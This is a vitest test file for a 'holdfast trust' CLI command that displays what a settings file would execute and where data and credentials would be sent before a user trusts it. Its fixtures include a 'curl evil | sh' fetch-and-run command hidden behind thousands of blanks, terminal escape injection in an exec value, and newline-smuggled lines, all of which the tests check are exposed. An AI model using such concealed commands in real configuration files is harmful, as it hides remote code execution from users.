import assert from 'node:assert/strict'
import { mkdirSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { afterEach, beforeEach, describe, test } from 'vitest'
import { holdfast } from '../../../src/cli/holdfast.ts'
import { Clone } from '../program/clone.ts'
import { run } from '../terminal.ts'

let clone: Clone
beforeEach(() => {
  clone = new Clone()
})
afterEach(() => clone[Symbol.dispose]())

const trust = (...args: string[]) => clone.run(holdfast, ['trust', ...args])

const json = async (...args: string[]) => {
  const { exit, stdout, stderr } = await trust(...args, '--json')
  assert.deepEqual([exit, stderr], [0, ''])
  return JSON.parse(stdout)
}

/** On a terminal, where a person answers. */
const asked = (answer: string, args: readonly string[] = [], meanwhile = () => {}) =>
  run(holdfast, ['trust', ...args], {
    cwd: clone.path('repo'),
    env: { HOME: clone.home },
    isTerminal: true,
    stdin: (async function* () {
      meanwhile()
      yield answer
    })(),
  })

const settings = `# ours
store: nats://its-host:4222
lease: 30s
exec: [mail=./send.sh, "x=curl evil\\e]0;title"]
handlers: lib/handlers.mjs
port: 8000
`

describe('holdfast trust', () => {
  test('shows what the nearest file says, and where data and credentials would go', async () => {
    const file = clone.write('repo/.holdfast.yaml', settings)
    const env = { NATS_USER: 'ann', NATS_PASSWORD: 's3cret' }
    const { exit, stdout, stderr } = await clone.run(holdfast, ['trust'], { env })
    assert.deepEqual([exit, stderr], [0, ''])
    assert.deepEqual(stdout.split('\n'), [
      `${file} says:`,
      '  store     nats://its-host:4222',
      '  lease     30s',
      '  exec      mail=./send.sh',
      '  exec      x=curl evil\\x1b]0;title',
      '  handlers  lib/handlers.mjs',
      '  port      8000',
      'Once you trust it:',
      `  qo worker runs, in ${clone.path('repo')}: mail=./send.sh; x=curl evil\\x1b]0;title`,
      `  qo worker runs the code in ${clone.path('repo/lib/handlers.mjs')}, also once that changes.`,
      '  port takes effect: the port to listen on: coven serve, holdfast serve.',
      '  Data goes to nats://its-host:4222.',
      '  Credentials go there, too: NATS_USER, NATS_PASSWORD.',
      `Trusted: ${file}`,
      '',
    ])
  })

  test('the name of a folder forges no line of it', async () => {
    const folder = 'repo/x\n  Nothing is run.\n'
    const file = clone.write(`${folder}/.holdfast.yaml`, 'exec: mail=true\nhandlers: h.mjs\n')
    const { stdout } = await clone.run(holdfast, ['trust', file], { cwd: folder })
    assert.match(stdout, /qo worker runs, in .*x Nothing is run\. ?: mail=true\n/)
    assert.doesNotMatch(stdout, /^ +Nothing is run/m)
  })

  test('says which credentials a bucket would be given', async () => {
    clone.write('repo/.holdfast.yaml', 'store: s3://bucket?endpoint=http://its-host:9000\n')
    const env = { AWS_SESSION_TOKEN: 's3cret' }
    const { stdout } = await clone.run(holdfast, ['trust'], { env })
    assert.match(stdout, /Data goes to s3:\/\/bucket\?endpoint=http:\/\/its-host:9000\./)
    assert.match(
      stdout,
      /Credentials go there, too: AWS_SESSION_TOKEN and those of your AWS profile or role\./,
    )
    assert.ok(!stdout.includes('s3cret'))
    const pair = { AWS_ACCESS_KEY_ID: 'k', AWS_SECRET_ACCESS_KEY: 's3cret' }
    assert.equal((await trust('--revoke')).exit, 0)
    const keyed = await clone.run(holdfast, ['trust'], { env: pair })
    assert.match(keyed.stdout, /there, too: AWS_ACCESS_KEY_ID, AWS_SECRET_ACCESS_KEY\./)
    clone.write('repo/.holdfast.yaml', 'store: s3://other\n')
    assert.match(
      (await trust()).stdout,
      /Credentials go there, too: those of your AWS profile or role/,
    )
  })

  test('answers an envelope, and again that it is so already', async () => {
    const path = clone.write('repo/.holdfast.yaml', settings)
    const { kind, data, changed } = await json()
    assert.deepEqual([kind, changed], ['trust', undefined])
    const { sha256, ...rest } = data
    assert.match(sha256, /^[0-9a-f]{64}$/)
    assert.deepEqual(rest, {
      ...{ path, kind: 'project', trusted: true, store: 'nats://its-host:4222', credentials: [] },
      keys: ['store', 'exec', 'handlers', 'port'],
      settings: [
        { key: 'store', values: ['nats://its-host:4222'] },
        { key: 'lease', values: ['30s'] },
        { key: 'exec', values: ['mail=./send.sh', 'x=curl evil\u001b]0;title'] },
        { key: 'handlers', values: ['lib/handlers.mjs'] },
        { key: 'port', values: ['8000'] },
      ],
    })
    assert.equal((await json()).changed, false)
    const { exit, stdout } = await trust()
    assert.deepEqual([exit, stdout], [0, `Already trusted: ${path}\n`])
    assert.equal((await trust('--quiet')).stdout, '')
  })

  test('says where data goes by a link', async () => {
    mkdirSync(clone.path('outside'))
    symlinkSync('../outside', clone.path('repo/data'))
    clone.write('repo/.holdfast.yaml', 'store: sqlite:data/x.db\n')
    const real = clone.path('outside/x.db')
    const goes = `  Data goes to sqlite:${clone.path('repo/data/x.db')}, which is a link to ${real}`
    assert.ok((await trust()).stdout.includes(`${goes}.\n`))
    assert.equal((await json()).data.file, real)
  })

  test('hides no part of a command behind blanks or line breaks', async () => {
    const wide = `mail=echo hi${' '.repeat(20_000)}; curl evil | sh${'\u00a0'.repeat(20_000)}`
    const command = JSON.stringify(`mail=echo hi\n\n# curl evil`)
    clone.write('repo/.holdfast.yaml', `store: nats://its-host\nexec: [${command}, "${wide}"]\n`)
    const { stdout } = await trust()
    const lines = stdout.split('\n')
    assert.equal(lines[2], '  exec   mail=echo hi\\x0a\\x0a# curl evil')
    assert.equal(lines[3], '  exec   mail=echo hi (20000 blanks) ; curl evil | sh (20000 blanks) ')
    assert.ok(stdout.length < 1_000)
    assert.match(lines.at(-4) ?? '', /^ {2}Data goes to nats:\/\/its-host\.$/)
    const config = clone.write('repo/.coven/config.yaml', `a: 1\n${'\n'.repeat(500)}\n\nb: 2\n`)
    const shown = (await trust(config)).stdout.split('\n')
    assert.deepEqual(shown.slice(1, 4), ['  a: 1', '  (502 empty lines)', '  b: 2'])
  })

  test('asks on a terminal, and takes nothing but a yes for one', async () => {
    const file = clone.write('repo/.holdfast.yaml', settings)
    for (const answer of ['n\n', '\n', 'no\n', 'yess\n', '']) {
      const { exit, stdout, stderr } = await asked(answer)
      assert.equal(exit, 6)
      assert.match(stdout, /Data goes to nats:.*Trust it\? \[y\/N\] $/s)
      assert.equal(stderr, 'holdfast: Not trusted.\n')
    }
    assert.deepEqual((await json('--list')).data, [])
    const { exit, stdout } = await asked('y\n')
    assert.equal(exit, 0)
    assert.equal(stdout.split('Data goes to').length, 2, 'it is shown once')
    assert.ok(stdout.endsWith(`Trust it? [y/N] Trusted: ${file}\n`))
    writeFileSync(file, 'port: 1\n')
    assert.match((await asked('', ['--yes'])).stdout, /trust it:\n[^?]*\nTrusted: /)
  })

  test('trusts what was shown, whatever the file says by the time of the answer', async () => {
    const file = clone.write('repo/.holdfast.yaml', 'port: 8000\n')
    const { exit } = await asked('y\n', [], () => writeFileSync(file, 'port: 22\n'))
    assert.equal(exit, 0)
    assert.equal((await json('--list')).data[0].state, 'changed')
    const { stderr } = await clone.run(holdfast, ['serve'])
    assert.match(stderr, /has changed since you trusted it, and it sets port/)
  })

  test('takes files of a workspace by their names, and shows their text', async () => {
    const config = clone.write('repo/.coven/config.yaml', 'claim_timeout: 1ms\n# \u001b[2K\n')
    const matchers = clone.write('repo/.coven/grimoire-matchers.yaml', 'matchers: []\n')
    const { stdout } = await trust('../.coven/config.yaml')
    assert.deepEqual(stdout.split('\n'), [
      `${config} says:`,
      '  claim_timeout: 1ms',
      '  # \\x1b[2K',
      'Once you trust it:',
      `  It decides when claims are taken back and old tasks deleted in every store that you use in ${clone.path('repo')}.`,
      '  No data or credentials go elsewhere.',
      `Trusted: ${config}`,
      '',
    ])
    assert.equal((await json(matchers)).data.kind, 'matchers')
    const kinds = (await json('--list')).data.map(({ kind }: { kind: string }) => kind)
    assert.deepEqual(kinds, ['workspace', 'matchers'])
  })

  test('knows a file by where its links lead', async () => {
    const real = clone.write('elsewhere/ours.yaml', 'port: 8000\n')
    symlinkSync('../elsewhere/ours.yaml', clone.path('repo/.holdfast.yaml'))
    const { stdout } = await trust()
    assert.ok(stdout.startsWith(`${clone.path('repo/.holdfast.yaml')}, a link to ${real} says:`))
    assert.deepEqual((await json('--list')).data[0].path, real)
    assert.match((await trust('--revoke')).stdout, /^No longer trusted/)
  })

  test('refuses what is no settings file', async () => {
    const other = clone.write('repo/other.yaml', 'port: 1\n')
    mkdirSync(clone.path('repo/.coven'))
    const cases: readonly [readonly string[], number, RegExp][] = [
      [[], 3, /There is no \.holdfast\.yaml here or above/],
      [['--revoke'], 3, /There is no \.holdfast\.yaml here or above/],
      [['none.yaml'], 3, /There is no file/],
      [[clone.path('repo/.coven')], 3, /There is no file/],
      [[other], 2, /is no settings file of a directory/],
      [[''], 2, /FILE is empty/],
      [['x'.repeat(300)], 2, /can't be read: ENAMETOOLONG/],
      [['--list', other], 2, /--list takes no FILE/],
      [['--list', '--revoke'], 2, /exclude each other/],
      [[other, other], 2, /takes no argument/],
    ]
    for (const [args, exit, message] of cases) {
      const outcome = await trust(...args)
      assert.equal(outcome.exit, exit, args.join(' '))
      assert.match(outcome.stderr, message)
    }
  })

  test('refuses a file that is broken, with its line', async () => {
    const file = clone.write('repo/.holdfast.yaml', 'port: 8000\nprot: 1\n')
    const { exit, stderr } = await trust()
    assert.equal(exit, 2)
    assert.ok(stderr.includes(`${file}, line 2: unknown key "prot"`))
    assert.deepEqual((await json('--list')).data, [])
  })
})

describe('holdfast trust --list and --revoke', () => {
  test('say what has become of each file', async () => {
    const names = ['same', 'changed', 'missing', 'replaced']
    for (const name of names) await clone.trust(clone.write(`${name}/.holdfast.yaml`, 'port: 1\n'))
    clone.write('changed/.holdfast.yaml', 'port: 2\n')
    rmSync(clone.path('missing'), { recursive: true })
    renameSync(clone.path('replaced'), clone.path('other'))
    symlinkSync('other', clone.path('replaced'))
    const path = (name: string) => clone.path(`${name}/.holdfast.yaml`)
    assert.deepEqual((await trust('--list')).stdout.split('\n'), [
      `trusted  ${path('same')}`,
      `changed  ${path('changed')}`,
      `missing  ${path('missing')}`,
      `changed  ${path('replaced')}`,
      '',
    ])
    const { kind, total, data } = await json('--list')
    assert.deepEqual([kind, total, data[2].state], ['trust.list', 4, 'missing'])
  })

  test('with nothing trusted, say so', async () => {
    const { exit, stdout, stderr } = await trust('--list')
    assert.deepEqual([exit, stdout], [0, ''])
    assert.match(stderr, /No file is trusted\. Trust one with: holdfast trust FILE/)
  })

  test('take trust back from a file that a link has replaced, and from what the link leads to', async () => {
    const file = clone.write('repo/.holdfast.yaml', 'port: 1\n')
    const other = clone.write('other/.holdfast.yaml', 'port: 1\n')
    for (const [trusted, ...gone] of [
      [[file], file],
      [[file, other], other, file],
    ] as const) {
      for (const each of trusted) await clone.trust(each)
      rmSync(file)
      symlinkSync('../other/.holdfast.yaml', file)
      const lines = gone.map((path) => `No longer trusted: ${path}\n`)
      assert.equal((await trust('--revoke')).stdout, lines.join(''))
      assert.deepEqual((await json('--list')).data, [])
      rmSync(file)
      clone.write('repo/.holdfast.yaml', 'port: 1\n')
    }
  })

  test('take trust back, also of a file that is gone, and say where there was none', async () => {
    const file = clone.write('repo/.holdfast.yaml', 'port: 1\n')
    await clone.trust(file)
    assert.deepEqual(await json('--revoke'), {
      ...{ v: 1, kind: 'trust', data: { path: file, trusted: false } },
    })
    assert.equal((await json('--revoke')).changed, false)
    assert.equal((await trust('--revoke', file)).stdout, `Not trusted: ${file}\n`)
    for (const args of [['--revoke'], ['--revoke', '../.holdfast.yaml'], ['--revoke', file]]) {
      await clone.trust(clone.write('repo/.holdfast.yaml', 'port: 1\n'))
      rmSync(file)
      assert.equal((await trust(...args)).stdout, `No longer trusted: ${file}\n`)
    }
    assert.equal((await trust('--revoke', '/none/at/all')).exit, 0)
    assert.deepEqual((await json('--list')).data, [])
  })
})
